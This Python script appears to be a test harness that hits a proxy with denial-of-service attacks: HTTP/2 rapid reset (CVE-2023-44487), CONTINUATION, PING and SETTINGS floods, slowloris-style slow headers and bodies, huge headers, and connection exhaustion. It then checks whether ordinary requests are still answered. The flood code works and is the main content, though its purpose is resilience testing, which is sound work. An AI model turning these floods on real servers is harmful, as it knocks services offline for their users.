"""An agent that means harm to the proxy: hostile.py MODE HOST PORT COUNT.

Attacks, asks for something ordinary once the attack is under way, goes on with it at least until that was answered, asks
again, and prints what came of it all as one line of JSON. With a COUNT of 0 it only asks.
"""

import json, resource, socket, ssl, sys, threading, time

mode, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)


address = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]


def connect():
    stream = socket.socket(address[0], socket.SOCK_STREAM)
    stream.settimeout(20)
    stream.connect(address[4])
    return stream


def get(path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n".encode()


def read_all(stream):
    got = b""
    try:
        while more := stream.recv(65536):
            got += more
    except OSError as error:
        return got, type(error).__name__
    return got, "closed"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block():
    authority = f"{host}:{port}".encode()
    return b"\x82\x87\x84\x01" + bytes([len(authority)]) + authority


def over_tls(protocol):
    context = ssl.create_default_context()
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(connect(), server_hostname=host)


def http2():
    stream = over_tls("h2")
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return stream


def flood(pieces):
    """Sends what `pieces` makes until the other side ends the connection; how many bytes it took, and how it ended."""
    stream, at, sent = http2(), 1, 0
    try:
        while sent < count:
            piece = pieces(at)
            stream.settimeout(20)
            try:
                stream.sendall(piece)
            except TimeoutError:
                # Neither read nor ended.
                return sent, "stalled"
            sent, at = sent + len(piece), at + 200
            # What it answers is read, so that it has no excuse to stop.
            stream.settimeout(0.001)
            try:
                while stream.recv(65536):
                    pass
                return sent, "ended"
            except (TimeoutError, ssl.SSLWantReadError):
                under_way.set()
    except OSError:
        return sent, "ended"
    finally:
        stream.close()
    return sent, "never"


# That something ordinary may be asked for now, and that it was answered.
under_way, answered = threading.Event(), threading.Event()
said, held = {}, []
FLOODS = {
    # A head, and the reset of it, as often as it goes (CVE-2023-44487).
    "rapid_reset": lambda at: b"".join(
        frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(at, at + 200, 2)
    ),
    # A head that never ends (CVE-2024-27316).
    "continuation": lambda at: (frame(1, 1, 1, block()) if at == 1 else b"") + frame(9, 0, 1, b"\0\x01x\x01y" * 3000),
    "ping": lambda at: frame(6, 0, 0, b"12345678") * 100,
    "settings": lambda at: frame(4, 0, 0, b"\0\x03\0\0\0\x64") * 100,
}


# `limits.max_connections`, where a policy does not say it.
PLACES = 1024


def trickle():
    for stream in held:
        try:
            stream.sendall(b"x")
        except OSError:
            pass
    time.sleep(0.5)


def unanswered(stream):
    if stream is None:
        return False
    stream.setblocking(False)
    try:
        stream.recv(1, socket.MSG_PEEK)
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        stream.settimeout(20)


def attack():
    if mode == "slow_heads":
        for _ in range(count):
            held.append(connect())
            held[-1].sendall(b"GET / HTTP/1.1\r\n")
        under_way.set()
        while not answered.is_set():
            trickle()
        # The ordinary one was answered while these still waited for their own end.
        said["held"] = sum(map(unanswered, held))
        while any(map(unanswered, held)):
            trickle()
        said["timeouts"] = sum(read_all(stream)[0].startswith(b"HTTP/1.1 408") for stream in held)
    elif mode == "slow_bodies":
        for _ in range(count):
            held.append(connect())
            held[-1].sendall(get().replace(b"GET", b"POST") + b"Content-Length: 100000\r\n\r\n")
        under_way.set()
        rounds = 0
        while rounds < 6 or not answered.is_set():
            trickle()
            rounds += 1
    elif mode == "big_heads":
        heads, statuses = 0, set()
        while heads < count or not answered.is_set():
            stream = connect()
            under_way.set()
            try:
                stream.sendall(get() + b"X: " + b"x" * 1_000_000)
            except OSError:
                pass
            statuses.add(read_all(stream)[0][9:12].decode())
            heads += 1
        said.update(heads=heads, statuses=sorted(statuses))
    elif mode == "idle":
        for some in (count // 2, count):
            while len(held) < some:
                try:
                    held.append(connect())
                except ConnectionResetError:
                    # It had made room for another before this process went on.
                    held.append(None)
            # Those that are left have every place: the others made room.
            while sum(map(unanswered, held)) > PLACES:
                time.sleep(0.05)
            under_way.set()
            answered.wait()
        said["held"] = len(held)
    else:
        ends = []
        while not ends or not answered.is_set():
            ends.append(flood(FLOODS[mode]))
            under_way.set()
        said.update(sent=max(sent for sent, _ in ends), ends=sorted({end for _, end in ends}), floods=len(ends))


def ask():
    stream = over_tls("http/1.1") if mode in FLOODS else connect()
    stream.sendall(get("/beside") + b"\r\n")
    return read_all(stream)[0][9:12].decode()


if count == 0:
    sys.exit(ask() != "200")


def told():
    """An attack that could not go on says why; nobody waits for it."""
    try:
        attack()
    except OSError as error:
        said["failed"] = f"{error!r} after {len(held)}"
        under_way.set()


attacker = threading.Thread(target=told, daemon=True)
attacker.start()
under_way.wait()
said["beside"] = [ask()]
answered.set()
attacker.join()
said["beside"].append(ask())
print(json.dumps(said), flush=True)
